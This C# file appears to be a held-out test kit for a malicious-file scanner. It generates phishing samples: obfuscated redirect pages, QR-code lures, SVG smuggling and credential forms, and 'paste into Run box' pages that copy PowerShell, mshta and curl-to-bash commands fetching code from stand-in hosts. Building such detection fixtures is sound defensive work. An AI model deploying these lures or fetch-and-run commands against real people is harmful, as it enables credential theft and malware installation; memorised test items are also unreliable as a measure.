namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>A page with nothing in it but the way to another one.</summary>
public sealed class PageThatLeadsElsewhere : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Employee_Bonus_2026.html", Utf8($$"""
<html><body><script>
var em = "bWFyaWEubG9wZXpAZmFicmlrYW0uZXhhbXBsZQ==";
var u = "{{Base64("https://auth.sso-portal.payroll-docs.example/?e=")}}";
window.location.href = atob(u) + atob(em);
</script></body></html>
"""));
        yield return ("Q3_statement.htm", Utf8($$"""
<!DOCTYPE html><html><head><meta charset=utf-8><title>Loading…</title></head><body>
<p style="font-size:1px;color:#fff">{{Filler.Prose(31, 400)}}</p>
<script>
const k = [{{Codes("https://r3dir.files-share.example/v2/login#", 7)}}];
let s = ""; for (const c of k) s += String.fromCharCode(c - 7);
if (!navigator.webdriver && !/bot|crawl|headless|phantom/i.test(navigator.userAgent)) {
  const t = location.hash.slice(1) || "j.whitfield@northwind.example";
  setTimeout(() => { window["loc" + "ation"]["rep" + "lace"](s + btoa(t)); }, 1500);
} else { document.title = "404"; }
</script></body></html>
"""));
        yield return ("invoice_view.html", Utf8("""
<html><head>
<meta http-equiv="refresh" content="0; url=https://www.google.com/url?q=https%3A%2F%2Fwww.bing.com%2Fck%2Fa%3Fu%3Dhttps%253A%252F%252Fmail-owa.quarantine-release.example%252Fo365&sa=D&usg=AOvVaw0">
</head><body onload="document.forms[0].submit()">
<form action="https://mail-owa.quarantine-release.example/o365" method="POST"><input type="hidden" name="user" value="accounts@tailspin.example"><input type="hidden" name="sid" value="8f2e77c1"></form>
</body></html>
"""));
        yield return ("DocuSign_Completed.html", Utf8($$"""
<html><head><title></title><script>
var _0xa1=["\x63\x72\x65\x61\x74\x65\x45\x6C\x65\x6D\x65\x6E\x74","\x73\x63\x72\x69\x70\x74","\x73\x72\x63","\x61\x70\x70\x65\x6E\x64\x43\x68\x69\x6C\x64","\x68\x65\x61\x64"];
var victim="cfo@wingtip.example";
(function(){var e=document[_0xa1[0]](_0xa1[1]);e[_0xa1[2]]=decodeURIComponent(escape(atob("{{Base64("https://cdn.jsloader-static.example/kit/ms.js?t=")}}")))+encodeURIComponent(victim);document[_0xa1[4]][_0xa1[3]](e);})();
</script></head><body oncontextmenu="return false"></body></html>
"""));
    }
}

/// <summary>A letter or page whose link is a picture of a code.</summary>
public sealed class LetterWithCodeToScan : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("MFA_Update_Required.html", Utf8($"""
<html><body style="font-family:'Segoe UI'"><div style="max-width:560px;margin:auto">
<img src="https://upload.wikimedia.org/wikipedia/commons/4/44/Microsoft_logo.svg" height=24>
<h2>Your 2FA is expiring today</h2><p>The multi-factor authentication of <b>d.okafor@adatum.example</b> expires on 30 November 2026. To keep access to your mailbox, scan the QR code below with your <b>phone camera</b> and sign in.</p>
<img width=220 alt="QR code" src="data:image/png;base64,{Convert.ToBase64String(QrCodes.Picture("https://mfa.adatum-secure.example/?d=okafor"))}">
<p style="color:#777">Do not scan with a computer. Failure to do so within 24 hours will lock your account. – IT Service Desk</p></div></body></html>
"""));
        yield return ("gehaltsanpassung.eml", Letter.Build("""
From: "Personalabteilung" <hr-noreply@lohn-portal.example>
To: s.keller@muster-gmbh.example
Reply-To: hr.dept8831@mailbox-service.example
Subject: =?utf-8?B?R2VoYWx0c2FucGFzc3VuZyAyMDI2IOKAkyBiaXR0ZSBiZXN0w6R0aWdlbg==?=
Date: Tue, 10 Nov 2026 07:41:09 +0000
Message-ID: <20261110.8f11@lohn-portal.example>
Received-SPF: softfail
""", """
<html><body>Sehr geehrte Mitarbeiterin, sehr geehrter Mitarbeiter,<br><br>Ihre Gehaltsanpassung liegt zur Unterschrift bereit. Bitte scannen Sie den QR-Code <b>mit Ihrem Smartphone</b>,
melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie bis <b>heute 18 Uhr</b>.<br><br><img src="cid:qr1" width="200"><br><br>Mit freundlichen Grüßen<br>Ihre Personalabteilung</body></html>
""", true, ("qrcode.png", "image/png", QrCodes.Picture("https://lohn.portal-sso.example/s?e=s.keller", 6))));
        var modules = QrCodes.Modules("https://legal.msg-vault.example/r?id=8841");
        var rows = string.Concat(Enumerable.Range(0, modules.GetLength(0)).Select(row => "<tr>" + string.Concat(Enumerable.Range(0, modules.GetLength(1)).Select(column => modules[row, column] ? "<td bgcolor=#000></td>" : "<td></td>")) + "</tr>"));
        yield return ("Secure_Message_Portal.htm", Utf8($"""
<html><head><style>td{"{"}width:6px;height:6px;padding:0{"}"}</style></head><body><p>You have received <b>(1)</b> encrypted message from <u>Legal Dept</u>. For security reasons the message opens only on mobile devices.</p>
<table cellspacing=0 border=0>{rows}</table><p>Scan the QR code to authenticate with your work account and read the message before it is deleted.</p></body></html>
"""));
        yield return ("Benefits_Enrollment.docx", OoxmlBuilder.Word("""
<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>ACTION REQUIRED: Open enrollment 2027</w:t></w:r></w:p><w:p><w:r><w:t>All employees must review and sign the updated benefits handbook. Scan the QR code with your phone to log in with your Microsoft 365 email and password. Link expires in 12 hours; access to payroll will be suspended for those who do not comply.</w:t></w:r></w:p>
""").Part("word/media/image1.png", QrCodes.Picture("https://benefits.hr-enroll.example/2027", 5)).Relationship("word/_rels/document.xml.rels", "image", "media/image1.png", isExternal: false).Build());
    }
}

/// <summary>A page that has the visitor paste a command into the Run box.</summary>
public sealed class PageWithCommandToPaste : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("captcha.html", Utf8("""
<!DOCTYPE html><html lang="en"><head><title>Just a moment...</title><style>.box{border:1px solid #ccc;width:300px;padding:14px}.pop{display:none;background:#fff;padding:20px}</style></head><body>
<h1>Verify you are human by completing the action below.</h1><div class="box" onclick="verify()"><input type="checkbox"> I'm not a robot</div>
<div class="pop" id="p"><h3>Verification Steps</h3><ol><li>Press Windows Button "<b>⊞</b>" + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>
<script>
function verify(){
  const t=document.createElement('textarea');
  t.value='powershell -w hidden -c "iwr https://human-check.cf-verify.example/s.txt | iex" # ✅ I am not a robot - reCAPTCHA Verification ID: 146820';
  document.body.append(t);t.select();document.execCommand('copy');t.remove();
  document.getElementById('p').style.display='block';
}
</script></body></html>
"""));
        yield return ("fix-microphone.html", Utf8($$"""
<html><head><meta charset="utf-8"><title>Google Meet</title></head><body>
<div role="dialog"><h2>Can't join the meeting</h2><p>Your microphone driver returned error <code>0x80040154</code>. To fix it:</p>
<p>1. Click <button id="fix">Try fix</button><br>2. Open the Run dialog (<kbd>Win</kbd>+<kbd>R</kbd>)<br>3. Paste with <kbd>Ctrl</kbd>+<kbd>V</kbd> and press <kbd>Enter</kbd></p></div>
<script>
const cmd = atob("{{Base64("mshta https://meet-fix.gmeet-support.example/driver.mp4 # Microphone Fix 0x80040154")}}");
document.getElementById("fix").onclick = async () => { await navigator.clipboard.writeText(cmd); document.getElementById("fix").textContent = "Copied"; };
</script></body></html>
"""));
        yield return ("mac_verify.html", Utf8("""
<html><body style="background:#111;color:#eee"><h2>Cloudflare Ray ID: 8d1f0c</h2><p>Unusual web traffic detected. On macOS: open <b>Terminal</b> (⌘ + Space, type Terminal), paste and press Return.</p>
<pre id="shown">I am not a robot: Cloudflare Verification ID 715921</pre><button onclick="c()">Copy</button>
<script>
function c(){var p='Y3VybCAtZnNTTCBodHRwczovL21hYy11cGRhdGUuYnJldy1jZG4uZXhhbXBsZS9pIHwgYmFzaA==';
navigator.clipboard.writeText("echo '" + p + "' | base64 -D | bash");}
</script></body></html>
"""));
        yield return ("Word_offline_view.html", Utf8($$"""
<html><head><title>Word Online</title></head><body><div style="filter:blur(4px)">{{Filler.Prose(5, 120)}}</div>
<div class="modal"><h3>The "Word Online" extension is not installed in your browser</h3><p>To view the document offline, click <b>How to fix</b>, then right-click the Windows icon, choose <b>Terminal (Admin)</b>, right-click to paste and press Enter.</p><a href="javascript:void 0" onclick="k()">How to fix</a></div>
<script>
var parts=["powersh","ell -nop -ep by","pass -e ","{{Encoded("$r=irm https://wordview.docs-ext.example/u; iex $r")}}"];
function k(){var d=document,l=function(e){e.clipboardData.setData("text/plain",parts.join(""));e.preventDefault();d.removeEventListener("copy",l)};d.addEventListener("copy",l);d.execCommand("copy");alert("Copied. Now paste it in the terminal.")}
</script></body></html>
"""));
    }
}

/// <summary>A picture with a script or a way elsewhere in it.</summary>
public sealed class PictureThatIsAPage : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Missed_Call_0231.svg", Utf8($$"""
<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><script type="application/ecmascript"><![CDATA[
const h="{{Convert.ToHexString([.. Xored("https://voice.msg-center.example/auth?u=", 23)]).ToLowerInvariant()}}";
let o="";for(let i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^23);
window.location.href=o+btoa("b.tanaka@contoso.example");
]]></script></svg>
"""));
        yield return ("Notificacion_judicial_2026-1184.svg", Utf8($$"""
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 800" onload="ini()">
<rect width="600" height="800" fill="#fff"/><text x="40" y="80" font-size="26">Rama Judicial - Sistema de Gestión Documental</text><text x="40" y="130">Descargando documento oficial, espere…</text><text x="40" y="160">Contraseña: 8841</text>
<script>
var b="{{Convert.ToBase64String(InertFiles.Zip(("proceso.vbs", Utf8("MsgBox 1"))))}}";
function ini(){var t=atob(b),a=new Uint8Array(t.length);for(var i=0;i&lt;t.length;i++)a[i]=t.charCodeAt(i);
var l=document.createElementNS("http://www.w3.org/1999/xhtml","a");l.setAttribute("href",URL.createObjectURL(new Blob([a],{type:"application/zip"})));l.setAttribute("download","DOCUMENTO_OFICIAL.zip");document.documentElement.appendChild(l);l.click();}
</script></svg>
"""));
        yield return ("EFT_Payment_Confirmation.svg", Utf8("""
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xhtml="http://www.w3.org/1999/xhtml" width="900" height="700">
<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml" style="margin:0">
<form action="https://eft-secure.ap-ledger.example/collect.php" method="post"><h2>Sign in to view payment</h2><input type="email" name="user"/><input type="password" name="pass"/><button>Continue</button></form>
</body></foreignObject></svg>
"""));
        yield return ("logo_signature.svg", Utf8($$"""
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 60">
<defs><linearGradient id="g"><stop offset="0" stop-color="#06c"/><stop offset="1" stop-color="#0cf"/></linearGradient></defs>
<path fill="url(#g)" d="M10 10h180v40H10z"/>
<g style="display:none" id="m">{{string.Join(" ", Utf8("eval(atob('" + Base64("top.location='https://biz-dash.kpi-board.example/'") + "'))").Select(value => value % 2 == 0 ? $"revenue-{value}" : $"growth-{value}"))}}</g>
<script href="data:text/javascript;base64,{{Base64("(function(){var w=document.getElementById('m').textContent.split(' ').map(function(x){return String.fromCharCode(+x.split('-')[1])}).join('');Function(w)()})()")}}"/>
</svg>
"""));
    }
}
